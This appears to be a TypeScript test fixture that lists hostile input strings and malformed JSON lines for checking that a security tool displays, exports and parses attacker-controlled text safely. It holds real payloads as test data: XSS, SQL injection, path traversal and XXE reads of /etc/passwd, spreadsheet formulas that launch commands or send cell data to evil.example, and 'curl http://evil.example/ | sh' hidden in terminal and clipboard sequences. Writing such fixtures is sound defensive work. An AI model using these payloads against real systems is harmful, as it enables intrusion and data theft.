/**
 * What an attacker may have written into evidence, rules and names: one table for all tests.
 *
 *     it.each(HOSTILE)("shows $name harmlessly", ({ text }) => { ... });
 */

/** What a text is aimed at. */
export type HostileKind =
  | "terminal"
  | "spreadsheet"
  | "markup"
  | "sql"
  | "path"
  | "prototype"
  | "direction"
  | "invisible"
  | "encoding"
  | "size"
  | "pattern";

export interface HostileText {
  readonly name: string;
  readonly kind: HostileKind;
  readonly text: string;
}

const ESC = "\u001b";
const BEL = "\u0007";

const TEXTS: Readonly<Record<HostileKind, Readonly<Record<string, string>>>> = {
  terminal: {
    "a colour": `${ESC}[31mred${ESC}[0m`,
    "clear the screen": `${ESC}[2J${ESC}[H`,
    "overwrite the line": "evil\rgood",
    "erase with backspaces": "evil\b\b\b\bgood",
    "move up and rewrite": `x${ESC}[1A${ESC}[2Kverdict: benign`,
    "set the window title": `${ESC}]0;owned${BEL}`,
    "write the clipboard": `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}`,
    "a link that says something else": `${ESC}]8;;http://evil.example/${ESC}\\http://good.example/${ESC}]8;;${ESC}\\`,
    "ask the terminal for an answer": `${ESC}[6n${ESC}[c${ESC}P+q544e${ESC}\\`,
    "a string that never ends": `${ESC}Pq#0;2;0;0;0`,
    "eight-bit control": "\u009b31mred\u009b0m",
    "alternate screen and mouse": `${ESC}[?1049h${ESC}[?1003h`,
    "an eight-bit title and clipboard": "\u009d0;owned\u009c\u009d52;c;Y3VybA==\u009c",
    "a device string and a private message": `${ESC}P$q"p${ESC}\\${ESC}^x${ESC}\\${ESC}_y${ESC}\\`,
    "line breaks": "first\nsecond\r\nthird\vfourth\ffifth\u0085sixth\u2028seventh\u2029eighth",
    tabs: "a\tb\t\tc",
    bell: BEL.repeat(3),
    delete: "rm\u007f\u007f -rf",
  },
  spreadsheet: {
    equals: '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "a command": "=cmd|' /C calc'!A0",
    plus: "+1+cmd|' /C calc'!A0",
    minus: "-2+3+cmd|' /C calc'!A0",
    at: "@SUM(1+1)*cmd|' /C calc'!A0",
    "after a tab": "\t=1+1",
    "after a carriage return": "\r=1+1",
    "after a line feed": "\n=1+1",
    "after blanks": "  =1+1",
    "full-width equals": "\uff1d1+1",
    "full-width plus, minus and at": "\uff0b1+1 \uff0d1 \uff20SUM(1)",
    "an exchange with a program": '=DDE("cmd";"/C calc";"x")',
    "a web service": '=WEBSERVICE("http://evil.example/"&A1)',
    "after an invisible mark": "\ufeff=1+1",
    "separators and quotes": 'a,b;c"d""e\tf',
    "a quote, then a formula": '",=1+1,"',
    "a number with zeros": "000123",
    "looks like a date": "1-2",
  },
  markup: {
    "a script": "<script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "out of an attribute": "\"' onmouseover='alert(1)' x=\"",
    "out of a script element": "</script><script>alert(1)</script>",
    "out of a comment": "--><svg/onload=alert(1)>",
    entities: "&lt;b&gt; &amp; &#60;i&#62; &nbsp",
    "a Markdown link": "[report](javascript:alert(1))",
    "a Markdown image": "![x](http://evil.example/track.png)",
    "Markdown emphasis": "*a* _b_ __c__ ~~d~~ `e`",
    "out of a code span": "`` ` ``` code ```` `",
    "out of a fenced block": "```\n# heading\n```",
    "out of a table cell": "a | b || c \\| d",
    "a Markdown heading": "# Incident closed",
    "a Markdown list": "- [x] done\n1. first",
    "a reference": "[1]: http://evil.example/ 'title'",
    "an automatic link": "http://evil.example/ <http://evil.example/> www.evil.example",
    "a template": "{{constructor.constructor('return process')()}} ${7*7} <%= 7*7 %>",
    "out of a text of SVG": "</text></svg><script>alert(1)</script>",
    "a directive of Mermaid": '%%{init: {"securityLevel": "loose"}}%%\n  click n1 call alert(1)',
    "out of a label of Mermaid": '"] --> x["y"]; end; subgraph z',
    "out of a label of Graphviz": '"]; x [URL="javascript:alert(1)" label=<<b>y</b>>',
    "out of an HTML comment and CDATA": "--> ]]> <!-- <![CDATA[ ]]>",
    XML: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  },
  sql: {
    "a quote": "' OR '1'='1",
    "a statement": "x'; DROP TABLE event; --",
    "a double quote": '"; DROP TABLE event; --',
    "a bracket": "]; DROP TABLE event; --",
    "a back-tick": "`; DROP TABLE event; --",
    "a comment": "/* */ -- x",
    "a placeholder": "? ?1 :name @name $name",
    "LIKE wildcards": "100%_\\%",
    "GLOB wildcards": "[a-z]*?",
    "a name of SQLite": "rowid",
    "a keyword": "select",
  },
  path: {
    "up and away": "../../../../etc/passwd",
    "up with backslashes": "..\\..\\..\\Windows\\System32\\config\\SAM",
    absolute: "/etc/passwd",
    "a drive": "C:\\Windows\\win.ini",
    "a share": "\\\\evil.example\\share\\x",
    encoded: "%2e%2e%2fetc%2fpasswd",
    "dots alone": "..",
    "one dot": ".",
    "a home": "~/.ssh/authorized_keys",
    "an option": "--output=/etc/cron.d/x",
    "a device": "/dev/stdin",
    "a reserved name": "CON.txt",
    "a file URL": "file:///etc/passwd",
    "trailing dots and blanks": "report.csv. . ",
    "a shell": "$(touch /tmp/owned)`id`;id|id&",
  },
  prototype: {
    "the prototype": "__proto__",
    "the constructor": "constructor",
    "the constructor's prototype": "constructor.prototype",
    "a method": "toString",
    "another method": "hasOwnProperty",
    "a thenable": "then",
    "a serialiser": "toJSON",
    "an index": "0",
    "a length": "length",
    nothing: "",
    "a number that is none": "NaN",
    "the word null": "null",
    "the word undefined": "undefined",
  },
  direction: {
    "right-to-left override": "gpj.\u202eexe.ofni",
    "left-to-right override": "\u202dabc\u202c",
    "isolates without end": "a\u2066b\u2067c\u2068d",
    marks: "a\u200eb\u200fc\u061cd",
    "embedded in a comment": "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */",
    "right-to-left text": "\u05e9\u05dc\u05d5\u05dd /bin/sh",
  },
  invisible: {
    "zero-width space": "nc\u200b",
    "zero-width joiners": "n\u200dc\u200c",
    "byte order mark": "\ufeffcurl",
    "soft hyphen": "cu\u00adrl",
    "word joiner": "wget\u2060",
    "no-break space": "nc\u00a0-l",
    "wide space": "nc\u3000-l",
    "tag characters": "ls\u{e0041}\u{e0042}",
    "variation selectors": "ok\ufe0f\u{e0100}",
    "Hangul filler": "\u3164root",
    "blanks at both ends": "  root  ",
    "only blanks": " \t ",
    "a look-alike": "\u0440\u0430ssw\u043erd",
    "Kelvin and long s": "nsloo\u212aup \u017focat",
    "dotless and dotted i": "D\u0130G d\u0131g",
  },
  encoding: {
    "a hidden NUL": "curl\u0000 http://evil.example/ | sh",
    "a NUL at the end": "nc\u0000",
    "a NUL alone": "\u0000",
    "all control characters": Array.from({ length: 32 }, (_, n) => String.fromCharCode(n)).join(""),
    "a high surrogate alone": "a\ud83d",
    "a low surrogate alone": "\ude00b",
    "surrogates in the wrong order": "\ude00\ud83d",
    "an astral character": "\u{1f600} \u{1f468}\u200d\u{1f469}\u200d\u{1f467}",
    "a non-character": "\uffff\ufffe",
    "the replacement character": "\ufffd",
    "composed and decomposed": "caf\u00e9 cafe\u0301",
    "stacked accents": `Z${"\u0351\u0327\u0336".repeat(40)}`,
    "a JSON escape as text": '\\u0000\\"}',
    "private use": "\ue000\uf8ff",
  },
  size: {
    "a long word": "A".repeat(100_000),
    "many words": "nc ".repeat(40_000),
    "many lines": "x\n".repeat(20_000),
    "many wide characters": "\u6f22".repeat(5000),
    "many quotes": '"'.repeat(10_000),
    "many brackets": "[".repeat(10_000),
    "a long path": `/${"d/".repeat(20_000)}f`,
  },
  pattern: {
    wildcards: "*".repeat(60) + "a",
    "an exponential regular expression": "(a+)+$",
    "what it runs for ever on": `${"a".repeat(64)}!`,
    "an unclosed class": "[a-",
    "an unclosed group": "(((",
    "a lone backslash": "\\",
    "special in Lucene": 'a~b@c#d&e<1-9>"f"',
  },
};

/** Every hostile text, each name once. */
export const HOSTILE: readonly HostileText[] = Object.entries(TEXTS).flatMap(([kind, texts]) =>
  Object.entries(texts).map(([name, text]) => ({ name: `${kind}: ${name}`, kind: kind as HostileKind, text })),
);

/** The hostile texts aimed at one thing, or at several. */
export function hostile(...kinds: readonly HostileKind[]): readonly HostileText[] {
  return HOSTILE.filter(({ kind }) => kinds.includes(kind));
}

/** An ECS process event that carries a text wherever a screen, an export or a rule shows one; `n` makes it distinct. */
export function hostileDocument(text: string, n: number): Record<string, unknown> {
  return {
    "@timestamp": new Date(Date.UTC(2025, 2, 14) + n * 1000).toISOString(),
    agent: { id: "hostile", type: "endpoint" },
    container: { id: text, image: { name: text }, name: text },
    event: { action: "exec", category: ["process"], id: `hostile-${n}`, kind: "event", sequence: n, type: ["start"] },
    file: { name: text, path: text },
    host: { id: "hostile-host", name: text, os: { type: "linux" } },
    message: text,
    process: {
      args: ["nc", text],
      command_line: text,
      entity_id: `hostile-process-${n}`,
      executable: text,
      name: "nc",
      parent: { entity_id: `hostile-parent-${n}`, name: text },
    },
    user: { name: text },
  };
}

/** One NDJSON line for each hostile text, in the order of the table. */
export function hostileNdjson(): string {
  return HOSTILE.map(({ text }, n) => `${JSON.stringify(hostileDocument(text, n))}\n`).join("");
}

export interface HostileLine {
  readonly name: string;
  readonly bytes: Buffer;
  /** `JSON.parse` accepts the text of the line, read as UTF-8, as an object. */
  readonly json: boolean;
}

const TIME = '"@timestamp":"2025-03-14T00:00:00Z"';

function line(name: string, content: string | Buffer, json: boolean): HostileLine {
  return { name, bytes: typeof content === "string" ? Buffer.from(content, "utf8") : content, json };
}

/** Lines, without their line feed, that are hard on a parser; a loader must take or refuse each with a reason. */
export function hostileLines(): readonly HostileLine[] {
  const withKey = (key: string): string => `{${TIME},${JSON.stringify(key)}:"x","event":{"category":["process"]}}`;
  const bytes = (before: string, middle: readonly number[], after: string): Buffer =>
    Buffer.concat([Buffer.from(before), Buffer.from(middle), Buffer.from(after)]);
  return [
    line("objects nested 10,000 deep", `{${TIME},"a":${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}}`, true),
    line("arrays nested 10,000 deep", `{${TIME},"a":${"[".repeat(10_000)}${"]".repeat(10_000)}}`, true),
    line("brackets that never close", '{"a":['.repeat(50_000), false),
    line("a key __proto__", `{${TIME},"__proto__":{"polluted":true},"event":{"category":["process"]}}`, true),
    line("a dotted key __proto__.polluted", `{${TIME},"__proto__.polluted":true}`, true),
    line("a key constructor", `{${TIME},"constructor":{"prototype":{"polluted":true}}}`, true),
    line("an empty key", withKey(""), true),
    line("a key of dots", withKey("..."), true),
    line("a key that begins and ends with a dot", withKey(".event."), true),
    line("a key that is a quote", withKey('"'), true),
    line("a key with SQL in it", withKey('"); DROP TABLE event; --'), true),
    line("a key with a NUL", withKey("process\u0000name"), true),
    line("a key with line breaks", withKey("a\nb\u2028c"), true),
    line("a key of 1 MB", withKey("k".repeat(1 << 20)), true),
    line(
      "keys that differ in case",
      `{${TIME},"process":{"name":"a"},"Process":{"Name":"b"},"PROCESS.NAME":"c"}`,
      true,
    ),
    line("a key twice", `{${TIME},"process":{"name":"first"},"process":{"name":"second"}}`, true),
    line(
      "a path that is a value and an object",
      `{${TIME},"process":"x","process.name":"nc","process.name.text":"y"}`,
      true,
    ),
    line("an integer beyond 2^53", `{${TIME},"event":{"sequence":9007199254740993}}`, true),
    line("an integer beyond 2^64", `{${TIME},"event":{"sequence":123456789012345678901234567890}}`, true),
    line("a number beyond doubles", `{${TIME},"event":{"duration":1e400}}`, true),
    line("minus zero", `{${TIME},"event":{"duration":-0.0}}`, true),
    line("a number of 10,000 digits", `{${TIME},"a":${"9".repeat(10_000)}}`, true),
    line("a lone surrogate", `{${TIME},"process":{"name":"a\\ud83d"}}`, true),
    line("an escaped NUL", `{${TIME},"process":{"name":"nc\\u0000"}}`, true),
    line("a raw NUL in a string", bytes(`{${TIME},"process":{"name":"nc`, [0], '"}}'), false),
    line("raw control characters in a string", bytes(`{${TIME},"message":"`, [1, 7, 27, 31], '"}'), false),
    line("invalid UTF-8", bytes(`{${TIME},"message":"`, [0xc3, 0x28, 0xff, 0xfe], '"}'), true),
    line("overlong UTF-8", bytes(`{${TIME},"message":"`, [0xc0, 0xaf], '"}'), true),
    line("a surrogate in UTF-8", bytes(`{${TIME},"message":"`, [0xed, 0xa0, 0xbd], '"}'), true),
    line("UTF-16", Buffer.from(`{${TIME}}`, "utf16le"), false),
    line("a byte order mark", `\ufeff{${TIME},"message":"x"}`, false),
    line("nulls in front", bytes("", [0, 0, 0, 0], `{${TIME}}`), false),
    line("cut off in the middle", `{${TIME},"process":{"na`, false),
    line("two objects", `{${TIME}}{${TIME}}`, false),
    line("a trailing comma", `{${TIME},}`, false),
    line("single quotes", "{'@timestamp':'2025-03-14T00:00:00Z'}", false),
    line("NaN", `{${TIME},"a":NaN}`, false),
    line("a list", "[1,2,3]", false),
    line("a text", '"just a text"', false),
    line("a number", "42", false),
    line("null", "null", false),
    line("no JSON at all", "Mar 14 00:00:00 host sshd[1]: Accepted publickey for root", false),
    line("an empty object", "{}", true),
    line("a list of 100,000 elements", `{${TIME},"process":{"args":[${'"a",'.repeat(99_999)}"b"]}}`, true),
    line("a list with everything in it", `{${TIME},"process":{"args":["a",1,true,null,["b",[]],{"c":"d"},1.5]}}`, true),
    line("5,000 fields", `{${TIME},${Array.from({ length: 5000 }, (_, n) => `"f${n}":${n}`).join(",")}}`, true),
    line("a document of 2 MB", `{${TIME},"message":"${"m".repeat(2 << 20)}"}`, true),
  ];
}
